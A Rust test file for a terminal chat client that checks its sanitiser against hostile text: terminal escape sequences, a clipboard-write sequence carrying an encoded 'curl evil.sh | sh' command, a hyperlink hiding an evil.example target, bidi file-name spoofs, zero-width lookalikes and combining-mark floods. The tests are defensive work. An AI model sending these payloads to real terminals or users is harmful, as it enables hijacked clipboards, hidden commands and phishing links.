//! Hostile text on screen. Every kind of text that could drive a terminal, hide itself or bend
//! the layout goes through every field another person or the server controls (message text,
//! `/me`, private messages, the backlog, error and notice text, quit reasons), alone and between
//! wide characters, and is drawn with `TestBackend` at 80x24, 30x10 and the smallest supported
//! size. Each drawing must:
//!
//! - (a) hold no control character, ESC, C1, bidi control, zero-width character or variation
//!   selector in any cell, no cell that starts with a combining mark (it would land on the
//!   neighbouring cell) and no more than `MAX_COMBINING_RUN` marks in one cell;
//! - (b) keep the pane borders and titles, the input line, the status line and the cursor
//!   exactly where a drawing with a harmless message has them;
//! - (c) show the text as the sanitiser made it, whole (read back across every wrapped row by
//!   scrolling the pane), with its visible replacements (`␛`, `�`, ...);
//! - (d) show the message that follows exactly as it is shown after a harmless message.

#![allow(clippy::unwrap_used)] // tests: a panic is the failure report

mod common;

use chat_tui::app::App;
use chat_tui::entry::clean;
use chat_tui::event::Event;
use chat_tui::layout::{self, Panes};
use chat_tui::ui;
use chat_tui::window::Target;
use common::{app, message, net, next_seq, nick, render, row_in, screen};
use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use protocol::limits::{MAX_LABEL_BYTES, MAX_TEXT_BYTES};
use protocol::sanitize::{MAX_COMBINING_RUN, is_invisible, is_variation_selector};
use protocol::{
    ByeCode, ErrorCode, Label, MessageKind, PresenceEvent, RoomName, ServerMsg, Stored, Text,
    describe, sanitize,
};
use ratatui::Terminal;
use ratatui::backend::CrosstermBackend;
use ratatui::buffer::Buffer;
use ratatui::layout::{Position, Rect};
use ratatui::{TerminalOptions, Viewport};
use unicode_width::UnicodeWidthChar;
use uuid::Uuid;

/// Normal, medium and the smallest supported size (no borders).
const SIZES: [(u16, u16); 3] = [(80, 24), (30, 10), (layout::MIN_WIDTH, layout::MIN_HEIGHT)];

/// The message after the hostile one.
const FOLLOW: &str = "after 後 ok";

fn private(app: &mut App, from: &str, text: &str) {
    net(
        app,
        ServerMsg::Private {
            account: false,
            offline: false,
            id: Uuid::now_v7(),
            from: nick(from),
            to: nick("Michael"),
            text: Text::parse(text).unwrap(),
            ts: 0,
        },
    );
}

fn notice(app: &mut App, text: &str) {
    net(app, ServerMsg::Notice { id: Uuid::now_v7(), ts: 0, text: text.into() });
}

fn presence(app: &mut App, event: PresenceEvent) {
    let (room, nick) = (RoomName::lobby(), nick("Mallory"));
    net(app, ServerMsg::Presence { id: Uuid::now_v7(), ts: 0, room, nick, event });
}

fn left(text: &str) -> PresenceEvent {
    PresenceEvent::Left { reason: Some(Label::parse(text).unwrap()) }
}

fn dropped(text: &str) -> PresenceEvent {
    PresenceEvent::Dropped { reason: Label::parse(text).unwrap() }
}

/// A nick as wide as nicks get: 32 characters of two columns each.
fn wide_nick() -> String {
    "龍".repeat(protocol::limits::MAX_NICK_CHARS)
}

/// A nick of halfwidth katakana with sound marks (`ｶﾞ`), which ratatui counts one column wider
/// each than `unicode-width` does.
fn katakana_nick() -> String {
    "ｶﾞ".repeat(protocol::limits::MAX_NICK_CHARS / 2)
}

fn without_whitespace(s: &str) -> String {
    s.chars().filter(|c| !c.is_whitespace()).collect()
}

/// (a) Nothing in any cell that a terminal would act on, that hides, or that spills over.
fn harmless(buf: &Buffer) -> Result<(), String> {
    for y in 0..buf.area.height {
        for x in 0..buf.area.width {
            let symbol = buf[(x, y)].symbol();
            for c in symbol.chars() {
                if c.is_control() || is_invisible(c) || is_variation_selector(c) {
                    return Err(format!("cell ({x},{y}) holds U+{:04X}", c as u32));
                }
            }
            if symbol.chars().next().is_some_and(|c| c.width() == Some(0)) {
                return Err(format!("cell ({x},{y}) starts with a zero-width mark {symbol:?}"));
            }
            let marks = symbol.chars().filter(|c| c.width() == Some(0)).count();
            if marks > MAX_COMBINING_RUN {
                return Err(format!("cell ({x},{y}) stacks {marks} marks"));
            }
        }
    }
    Ok(())
}

/// The cells that make the layout: every pane's border and title, the whole input pane and
/// the status line.
fn frame_cells(panes: &Panes) -> Vec<(u16, u16)> {
    let whole = |r: Rect| r.positions().map(|p| (p.x, p.y)).collect::<Vec<_>>();
    let mut cells = whole(panes.input);
    cells.extend(whole(panes.status));
    if panes.bordered {
        let r = panes.messages;
        cells.extend(
            whole(r).into_iter().filter(|&(x, y)| {
                x == r.x || x == r.right() - 1 || y == r.y || y == r.bottom() - 1
            }),
        );
    }
    cells
}

/// Where a channel's text is shown: a room's or private window, or the server window (shown
/// for the test, with Alt+1).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Pane {
    Messages,
    Server,
}

impl Pane {
    fn inner(self, panes: &Panes) -> Rect {
        panes.messages_inner()
    }

    /// A client with this pane in view: the server window is shown first.
    fn app(self, w: u16, h: u16) -> App {
        let mut app = app(w, h);
        if self == Pane::Server {
            app.update(Event::Key(KeyEvent::new(KeyCode::Char('1'), KeyModifiers::ALT)));
        }
        app
    }
}

/// A field that carries text somebody else chose.
struct Channel {
    name: &'static str,
    /// Most bytes the field holds: [`MAX_TEXT_BYTES`] for chat text, [`MAX_LABEL_BYTES`] for a
    /// reason, unbounded (up to the line limit) for server text.
    limit: usize,
    pane: Pane,
    deliver: fn(&mut App, &str),
    /// The line this text should read as once sanitised.
    shown: fn(&str) -> String,
}

fn channels() -> Vec<Channel> {
    fn sanitized(t: &str) -> String {
        sanitize(t).into_owned()
    }
    vec![
        Channel {
            name: "message text",
            limit: MAX_TEXT_BYTES,
            pane: Pane::Messages,
            deliver: |app, t| message(app, "Mallory", MessageKind::Say, t),
            shown: clean,
        },
        Channel {
            name: "/me action",
            limit: MAX_TEXT_BYTES,
            pane: Pane::Messages,
            deliver: |app, t| message(app, "Mallory", MessageKind::Action, t),
            shown: |t| format!("* Mallory {}", clean(t)),
        },
        Channel {
            name: "message from a 32-character CJK nick",
            limit: MAX_TEXT_BYTES,
            pane: Pane::Messages,
            deliver: |app, t| message(app, &wide_nick(), MessageKind::Say, t),
            shown: |t| format!("<{}> {}", wide_nick(), clean(t)),
        },
        Channel {
            name: "message from a nick of halfwidth katakana with sound marks",
            limit: MAX_TEXT_BYTES,
            pane: Pane::Messages,
            deliver: |app, t| message(app, &katakana_nick(), MessageKind::Say, t),
            shown: |t| format!("<{}> {}", sanitize(&katakana_nick()), clean(t)),
        },
        Channel {
            name: "backlog on joining",
            limit: MAX_TEXT_BYTES,
            pane: Pane::Messages,
            deliver: |app, t| {
                let stored = Stored {
                    account: false,
                    id: Uuid::now_v7(),
                    seq: next_seq(),
                    from: nick("Mallory"),
                    kind: MessageKind::Say,
                    text: Some(Text::parse(t).unwrap()),
                    ts: 0,
                };
                let room = RoomName::lobby();
                net(app, ServerMsg::History { room, messages: vec![stored], beginning: false });
            },
            shown: clean,
        },
        Channel {
            name: "private message",
            limit: MAX_TEXT_BYTES,
            pane: Pane::Messages,
            deliver: |app, t| {
                private(app, "Mallory", t);
                let target = Target::Private(nick("Mallory"));
                let index = app.windows.iter().position(|w| w.target == target).unwrap();
                app.windows.switch_to(index);
            },
            shown: clean,
        },
        Channel {
            name: "server error",
            limit: usize::MAX,
            pane: Pane::Messages,
            deliver: |app, t| {
                let (code, message) = (ErrorCode::Other, t.to_owned());
                net(app, ServerMsg::Error { code, message, request: None, retry_after_ms: None });
            },
            shown: clean,
        },
        Channel {
            name: "quit reason",
            limit: MAX_LABEL_BYTES,
            pane: Pane::Messages,
            deliver: |app, t| presence(app, left(t)),
            shown: |t| clean(&describe::presence(&nick("Mallory"), &left(t))),
        },
        Channel {
            name: "dropped reason",
            limit: MAX_LABEL_BYTES,
            pane: Pane::Messages,
            deliver: |app, t| presence(app, dropped(t)),
            shown: |t| clean(&describe::presence(&nick("Mallory"), &dropped(t))),
        },
        Channel {
            name: "server notice",
            limit: usize::MAX,
            pane: Pane::Server,
            deliver: notice,
            shown: sanitized,
        },
        Channel {
            name: "server goodbye",
            limit: usize::MAX,
            pane: Pane::Server,
            deliver: |app, t| {
                let (code, message) = (ByeCode::Shutdown, t.to_owned());
                net(app, ServerMsg::Bye { code, message, retry_after_ms: None });
            },
            shown: |t| format!("server says goodbye: {}", sanitize(t)),
        },
    ]
}

/// The message after the hostile one, in the same place.
fn follow(app: &mut App, pane: Pane) {
    match (pane, app.windows.current_window().map(|w| w.target.clone())) {
        (Pane::Server, _) => notice(app, FOLLOW),
        (Pane::Messages, Some(Target::Private(from))) => private(app, from.as_str(), FOLLOW),
        (Pane::Messages, _) => message(app, "Tracy", MessageKind::Say, FOLLOW),
    }
}

/// Every row of the current window's conversation at the app's size, oldest first, read by
/// scrolling the pane a page at a time.
/// `unscrolled` is the drawing at the bottom, already made.
fn conversation(app: &mut App, unscrolled: &Buffer) -> Vec<String> {
    let inner = Panes::new(app.view.size).messages_inner();
    let height = usize::from(inner.height);
    let total = app.windows.current_window().unwrap().total_rows(usize::from(inner.width));
    let mut pages = Vec::new();
    let mut scroll = 0;
    while scroll < total {
        app.windows.current_window_mut().unwrap().scroll = scroll;
        let buf = if scroll == 0 { unscrolled.clone() } else { render(app).0 };
        let shown = u16::try_from(height.min(total - scroll)).unwrap();
        let rows: Vec<String> =
            (inner.bottom() - shown..inner.bottom()).map(|y| row_in(&buf, inner, y)).collect();
        pages.push(rows);
        scroll += height;
    }
    app.windows.current_window_mut().unwrap().scroll = 0;
    pages.into_iter().rev().flatten().collect()
}

/// `text` cut to `limit` bytes at a character boundary.
fn fit(text: &str, limit: usize) -> &str {
    let mut end = text.len().min(limit);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// Normalises the clock, for rows stamped with the current time.
fn no_digits(s: &str) -> String {
    s.chars().map(|c| if c.is_ascii_digit() { '0' } else { c }).collect()
}

/// A kind of hostile text, and what of it must be visible wherever it is shown.
struct Case {
    name: String,
    text: String,
    /// Visible replacements that must be on screen (whitespace is not compared).
    shows: Vec<String>,
}

fn case(name: impl Into<String>, text: impl Into<String>, shows: &[&str]) -> Case {
    let shows = shows.iter().map(|s| (*s).to_owned()).collect();
    Case { name: name.into(), text: text.into(), shows }
}

/// The drawing with a harmless message in place of the hostile one, to compare with.
fn baseline(channel: &Channel, (w, h): (u16, u16)) -> (Buffer, Position) {
    let mut app = channel.pane.app(w, h);
    (channel.deliver)(&mut app, "hello");
    follow(&mut app, channel.pane);
    render(&app)
}

/// (a) to (d) for one text through one channel at one size.
fn check(
    text: &str,
    shows: &[String],
    channel: &Channel,
    (w, h): (u16, u16),
    (base, base_cursor): &(Buffer, Position),
) -> Result<(), String> {
    let mut hostile = channel.pane.app(w, h);
    (channel.deliver)(&mut hostile, text);
    follow(&mut hostile, channel.pane);
    let (buf, cursor) = render(&hostile);
    let picture = || format!("\n{}\nwith a harmless message:\n{}", screen(&buf), screen(base));

    // (a)
    harmless(&buf).map_err(|e| format!("(a) {e}{}", picture()))?;

    // (b)
    let panes = Panes::new(buf.area);
    for (x, y) in frame_cells(&panes) {
        if buf[(x, y)].symbol() != base[(x, y)].symbol() {
            return Err(format!("(b) the layout moved at ({x},{y}){}", picture()));
        }
    }
    if cursor != *base_cursor {
        return Err(format!("(b) the cursor moved to {cursor:?}{}", picture()));
    }

    // (d)
    let inner = channel.pane.inner(&panes);
    let follow_rows = {
        let entry = hostile.windows.current_window().unwrap().entries().back().unwrap();
        u16::try_from(entry.height(usize::from(inner.width))).unwrap()
    };
    for y in inner.bottom() - follow_rows..inner.bottom() {
        let (got, want) = (row_in(&buf, inner, y), row_in(base, inner, y));
        if no_digits(&got) != no_digits(&want) {
            return Err(format!("(d) the next message's row {y} is {got:?}{}", picture()));
        }
    }
    if !screen(&buf).contains("after 後") {
        return Err(format!("(d) the next message is missing{}", picture()));
    }

    // (c)
    let want = without_whitespace(&(channel.shown)(text));
    let rows = conversation(&mut hostile, &buf);
    let got: String = rows.iter().map(|r| without_whitespace(r)).collect();
    if !got.contains(&want) {
        return Err(format!("(c) {want:?} is not all on screen:\n{}", rows.join("\n")));
    }
    for fragment in shows {
        if !got.contains(&without_whitespace(fragment)) {
            return Err(format!("(c) {fragment:?} is not shown:\n{}", rows.join("\n")));
        }
    }
    Ok(())
}

/// Runs every case, alone and between wide characters, through every channel at every size;
/// fails naming each failing combination.
fn check_cases(cases: &[Case]) {
    let mut failures = Vec::new();
    for channel in &channels() {
        for size in SIZES {
            let base = baseline(channel, size);
            for case in cases {
                let flanked = format!("中{}🎉", case.text);
                for (variant, text) in
                    [("", case.text.as_str()), (" between wide characters", &flanked)]
                {
                    let fitted = fit(text, channel.limit);
                    // A fragment cut off by the field's limit cannot be asked for.
                    let shows = if fitted.len() == text.len() { &case.shows[..] } else { &[] };
                    if let Err(e) = check(fitted, shows, channel, size, &base) {
                        let at = format!(
                            "{}{variant}, in a {}, at {}x{}",
                            case.name, channel.name, size.0, size.1
                        );
                        failures.push((at, e));
                    }
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}\n\nthe first:\n{}",
        failures.len(),
        failures.iter().take(40).map(|(at, _)| at.as_str()).collect::<Vec<_>>().join("\n"),
        failures
            .iter()
            .take(2)
            .map(|(at, e)| format!("{at}: {e}"))
            .collect::<Vec<_>>()
            .join("\n\n")
    );
}

/// CSI, OSC (title, clipboard, hyperlink), DCS, APC and PM sequences are drawn as text starting
/// with `␛`: none can clear the screen, move the cursor, colour text, set the title, write the
/// clipboard or hide a link target.
#[test]
fn escape_sequences_are_shown_not_obeyed() {
    check_cases(&[
        case("CSI clear screen", "\u{1b}[2Jgone", &["␛[2Jgone"]),
        case("CSI cursor home", "\u{1b}[Hhome\u{1b}[10;10Hmoved", &["␛[Hhome␛[10;10Hmoved"]),
        case(
            "SGR colours",
            "\u{1b}[31mred\u{1b}[0m \u{1b}[38;5;196mx\u{1b}[48;2;1;2;3my\u{1b}[8mhidden",
            &["␛[31mred␛[0m", "␛[38;5;196mx␛[48;2;1;2;3my␛[8mhidden"],
        ),
        case("OSC 0 window title", "\u{1b}]0;pwned\u{7}", &["␛]0;pwned␇"]),
        case(
            "OSC 52 clipboard",
            "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}",
            &["␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇"],
        ),
        case(
            "OSC 8 hyperlink",
            "\u{1b}]8;;https://evil.example/\u{1b}\\bank.example\u{1b}]8;;\u{1b}\\",
            &["␛]8;;https://evil.example/␛\\bank.example␛]8;;␛\\"],
        ),
        case("DCS string", "\u{1b}P1$r0m\u{1b}\\", &["␛P1$r0m␛\\"]),
        case("DCS sixel", "\u{1b}Pq#0;2;0;0;0#0~~@@vv\u{1b}\\", &["␛Pq#0;2;0;0;0#0~~@@vv␛\\"]),
        case("APC string", "\u{1b}_Gf=100,a=T;AAAA\u{1b}\\", &["␛_Gf=100,a=T;AAAA␛\\"]),
        case("PM and SOS strings", "\u{1b}^pm\u{1b}\\\u{1b}Xsos\u{1b}\\", &["␛^pm␛\\␛Xsos␛\\"]),
    ]);
}

/// C0 controls are drawn as their pictures (`␇`, `␈`, `␍`, ...), a tab as a space, DEL as `␡`,
/// and every C1 control (including the 8-bit CSI U+009B and OSC U+009D) as `�`.
#[test]
fn control_characters_are_shown_as_pictures() {
    let c1: String = ('\u{80}'..='\u{9f}').collect();
    let c0: String = ('\u{1}'..='\u{1f}').filter(|&c| c != '\n' && c != '\t').collect();
    let c0_pictures: String =
        c0.chars().map(|c| char::from_u32(0x2400 + c as u32).unwrap()).collect();
    check_cases(&[
        case("8-bit CSI U+009B", "\u{9b}2J\u{9b}31mred", &["\u{FFFD}2J\u{FFFD}31mred"]),
        case("8-bit OSC U+009D", "\u{9d}0;pwned\u{9c}", &["\u{FFFD}0;pwned\u{FFFD}"]),
        case("every C1 control", format!("C1[{c1}]"), &[&format!("C1[{}]", "\u{FFFD}".repeat(32))]),
        case("BEL", "ding\u{7}dong", &["ding␇dong"]),
        case("BS", "secret\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}public", &["secret␈␈␈␈␈␈public"]),
        case("CR", "harmless\rEVIL", &["harmless␍EVIL"]),
        case("TAB", "left\tright", &["left", "right"]),
        case("VT and FF", "up\u{b}down\u{c}page", &["up␋down␌page"]),
        case("NUL", "nul\u{0}byte", &["nul␀byte"]),
        case("DEL", "del\u{7f}ete", &["del␡ete"]),
        case("every C0 control", format!("C0[{c0}]"), &[&format!("C0[{c0_pictures}]")]),
    ]);
}

/// Bidi embeddings, overrides, isolates and marks are drawn as `�`: none can reorder the text
/// around it ("Trojan Source", `exe.txt` spoofing).
#[test]
fn bidi_controls_are_replaced() {
    let mut cases =
        vec![case("RLO file name spoof", "invoice\u{202e}fdp.exe", &["invoice\u{FFFD}fdp.exe"])];
    for c in ('\u{202a}'..='\u{202e}')
        .chain('\u{2066}'..='\u{2069}')
        .chain(['\u{200e}', '\u{200f}', '\u{061c}'])
    {
        cases.push(case(format!("U+{:04X}", c as u32), format!("ab{c}cd"), &["ab\u{FFFD}cd"]));
    }
    check_cases(&cases);
}

/// Zero-width characters are drawn as `�`, so nothing hides between letters; variation selectors
/// on their own are dropped and leave nothing behind.
#[test]
fn zero_width_characters_and_lone_variation_selectors() {
    let mut cases: Vec<Case> = ['\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}', '\u{feff}']
        .into_iter()
        .map(|c| case(format!("U+{:04X}", c as u32), format!("pay{c}pal"), &["pay\u{FFFD}pal"]))
        .collect();
    cases.extend([
        case("emoji ZWJ sequence", "👨\u{200d}👩\u{200d}👧", &["👨\u{FFFD}👩\u{FFFD}👧"]),
        case("a variation selector alone", "\u{fe0f}", &[]),
        case("variation selectors after a space", "vs \u{fe0f}\u{fe0e}\u{e0100}end", &["end"]),
        case("variation selectors on a letter", "a\u{fe0f}\u{fe0f}\u{fe0f}b", &["ab"]),
    ]);
    check_cases(&cases);
}

/// A 10,000-character word (and words of wide characters as long as a field holds) wraps inside
/// the pane, is shown whole and never widens the layout.
#[test]
fn a_ten_thousand_character_word_wraps() {
    check_cases(&[
        case("10,000-character word", "w".repeat(10_000), &[]),
        case("long word of Chinese", "漢".repeat(3_000), &[]),
        case("long word of emoji", "🎉".repeat(2_000), &[]),
        case("long word of escapes", "\u{1b}[2J".repeat(2_000), &[]),
    ]);
}

/// A flood of combining marks is capped at `MAX_COMBINING_RUN` on its letter, so it cannot smear
/// over the rows around it; marks with no letter under them are still shown.
#[test]
fn combining_mark_floods_are_capped() {
    let flood = "\u{301}".repeat(500);
    let capped = "\u{301}".repeat(MAX_COMBINING_RUN);
    check_cases(&[
        case("500 marks on one letter", format!("a{flood} next"), &[&format!("a{capped}next")]),
        case("500 marks on a wide letter", format!("字{flood}"), &[&format!("字{capped}")]),
        case("marks at the start", "\u{301}\u{302}start", &["start"]),
        case("a flood at the start", format!("{flood}start"), &["start"]),
        case("marks after a line break", "top\n\u{301}\u{301}bottom", &["top", "bottom"]),
        case(
            "a flood broken up by variation selectors",
            format!("a{}", format!("{capped}\u{fe0f}").repeat(100)),
            &[],
        ),
        case(
            "a flood broken up by zero-width joiners",
            format!("a{}", format!("{capped}\u{200d}").repeat(20)),
            &[],
        ),
    ]);
}

/// Wide characters (Chinese, emoji) right next to hostile text, at every odd and even column a
/// wrap can fall on, keep the borders in place. (Every other test also runs each case between
/// wide characters.)
#[test]
fn wide_characters_beside_hostile_text() {
    check_cases(&[
        case("wide then escape", "你好\u{1b}[2J世界\u{1b}]0;t\u{7}", &["你好␛[2J世界␛]0;t␇"]),
        case("wide then bidi", "文件\u{202e}exe.txt", &["文件\u{FFFD}exe.txt"]),
        case("emoji then C1", "🎉\u{9b}🎉\u{9d}🎉", &["🎉\u{FFFD}🎉\u{FFFD}🎉"]),
        case("odd column wide wrap", format!("a{}", "中".repeat(200)), &[]),
        case("emoji with skin tone", "👋🏽 hi 🇺🇸 flag", &["👋🏽", "hi"]),
        case("halfwidth katakana with sound marks", "ｶﾞｷﾞﾊﾟﾋﾟ".repeat(40), &[]),
    ]);
}

/// Combining marks at the start of a message, with no letter under them, are shown on a dotted
/// circle: not dropped (ratatui has no cell to put them in) and not stacked on the space after
/// the nick.
#[test]
fn marks_with_nothing_under_them_sit_on_a_dotted_circle() {
    let mut app = app(80, 24);
    message(&mut app, "Mallory", MessageKind::Say, "\u{301}\u{302}start");
    message(&mut app, "Tracy", MessageKind::Say, FOLLOW);
    let (buf, _) = render(&app);
    assert!(
        row_in(&buf, buf.area, 17).starts_with("│ 00:00 <Mallory> \u{25cc}\u{301}\u{302}start"),
        "{}",
        screen(&buf)
    );
}

/// A hostile paste lands in the input line as text it can hold: nothing in any cell that a
/// terminal would act on or that stacks over the rows around it, the panes and the status line
/// stay put, and the cursor stays in the input's text area.
#[test]
fn hostile_paste_keeps_the_input_line_intact() {
    let pastes = [
        (
            "escapes, C1, bidi, zero-width",
            "\u{1b}]0;pwned\u{7}\u{9b}2J\u{202e}x\u{200b}y".to_owned(),
        ),
        ("a combining flood", format!("a{}", "\u{301}".repeat(500))),
        ("a flood after a long word", format!("{}a{}", "w".repeat(100), "\u{301}".repeat(500))),
        ("marks at the start", "\u{301}\u{301}x".to_owned()),
        ("variation selectors", "a\u{fe0f}\u{fe0e}b".to_owned()),
        ("wide characters", "你好🎉".repeat(20)),
        ("a long word", "w".repeat(5_000)),
        ("halfwidth katakana with sound marks", "ｶﾞﾊﾟ".repeat(30)),
    ];
    for (name, paste) in pastes {
        for (w, h) in SIZES {
            let mut hostile = app(w, h);
            hostile.update(Event::Paste(paste.clone()));
            let (buf, cursor) = render(&hostile);
            let (base, _) = render(&app(w, h));
            let at = format!("{name} at {w}x{h}");
            harmless(&buf).unwrap_or_else(|e| panic!("{at}: {e}\n{}", screen(&buf)));
            let panes = Panes::new(buf.area);
            let text_area = if panes.bordered {
                let r = panes.input;
                Rect::new(r.x + 2, r.y + 1, r.width - 4, 1)
            } else {
                panes.input
            };
            for (x, y) in frame_cells(&panes) {
                if !text_area.contains(Position::new(x, y)) {
                    assert_eq!(
                        buf[(x, y)],
                        base[(x, y)],
                        "{at}: ({x},{y}) moved\n{}",
                        screen(&buf)
                    );
                }
            }
            assert!(text_area.contains(cursor), "{at}: cursor at {cursor:?}\n{}", screen(&buf));
        }
    }
}

/// Control sequences a terminal would obey, characters it would act on, and floods of marks
/// it would stack on one character.
fn obeyed(output: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut marks = 0;
    let mut chars = output.chars().peekable();
    while let Some(c) = chars.next() {
        marks = if c.width() == Some(0) { marks + 1 } else { 0 };
        if marks == MAX_COMBINING_RUN + 1 {
            found.push(format!("more than {MAX_COMBINING_RUN} marks in a row"));
        }
        if c == '\u{1b}' {
            // crossterm's own sequences are CSI with numeric parameters: cursor moves (H),
            // styles (m), showing and hiding the cursor (?25h, ?25l) and clearing (J, K).
            let mut seq = String::from("ESC");
            if chars.next_if_eq(&'[').is_none() {
                seq.extend(chars.next());
                found.push(seq);
                continue;
            }
            seq.push('[');
            while let Some(p) =
                chars.next_if(|c| c.is_ascii_digit() || matches!(c, ';' | ':' | '?'))
            {
                seq.push(p);
            }
            let end = chars.next();
            seq.extend(end);
            if !end.is_some_and(|e| "HmJKhl".contains(e)) {
                found.push(seq);
            }
        } else if c.is_control() || is_invisible(c) || is_variation_selector(c) {
            found.push(format!("U+{:04X}", c as u32));
        }
    }
    found
}

/// Drawn through crossterm into a byte buffer, a screen full of hostile text sends the terminal
/// no escape sequence but crossterm's own cursor moves and styles, and none of the payloads'
/// raw bytes.
#[test]
fn the_terminal_never_receives_raw_control_bytes() {
    let flood = format!("a{}", "\u{301}".repeat(50));
    let payloads = [
        "\u{1b}[2J",
        "\u{1b}]0;pwned\u{7}",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{1b}]8;;https://evil.example/\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        "\u{1b}P1$r0m\u{1b}\\",
        "\u{1b}_Gf=100;AAAA\u{1b}\\",
        "\u{9b}31m\u{9d}0;c1\u{9c}",
        "\u{7}\u{8}\r\u{b}\u{c}\u{0}\u{7f}",
        "\u{202e}\u{2066}\u{200e}\u{61c}",
        "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{fe0f}",
        // Joiners and selectors after a letter: ratatui keeps these in the letter's cell.
        "pay\u{200d}pal a\u{200c}b \u{2764}\u{fe0f}",
        &flood,
    ];
    for (w, h) in SIZES {
        let mut app = app(w, h);
        for p in payloads {
            let text = format!("中{p}🎉");
            message(&mut app, "Mallory", MessageKind::Say, &text);
            notice(&mut app, &text);
        }
        let mut out = Vec::new();
        {
            let options = TerminalOptions { viewport: Viewport::Fixed(app.view.size) };
            let mut terminal =
                Terminal::with_options(CrosstermBackend::new(&mut out), options).unwrap();
            terminal.draw(|f| ui::draw(f, &app)).unwrap();
        }
        let output = String::from_utf8(out).unwrap();
        assert!(output.contains("Mallory"), "{w}x{h}: nothing drawn");
        let obeyed = obeyed(&output);
        assert!(obeyed.is_empty(), "{w}x{h}: the terminal would obey {obeyed:?}");
        for raw in ["\u{1b}]", "\u{1b}P", "\u{1b}_", "\u{7}", "\u{9b}", "\u{9d}", "\u{202e}"] {
            assert!(!output.contains(raw), "{w}x{h}: {raw:?} reached the terminal");
        }
    }
}

/// The help overlay, the one window drawn over the others, leaves the hostile text beside it
/// as harmless as without it.
#[test]
fn help_over_hostile_text() {
    let mut app = app(120, 30);
    let text = format!("a{}\u{1b}]0;x\u{7}pay\u{200d}pal", "\u{301}".repeat(50));
    message(&mut app, "Mallory", MessageKind::Say, &text);
    app.update(Event::Key(KeyEvent::new(KeyCode::F(1), KeyModifiers::NONE)));
    let (buf, _) = render(&app);
    assert!(screen(&buf).contains("<Mallory> a"), "{}", screen(&buf));
    assert!(screen(&buf).contains("/join ROOM"), "{}", screen(&buf));
    harmless(&buf).unwrap_or_else(|e| panic!("{e}\n{}", screen(&buf)));
}
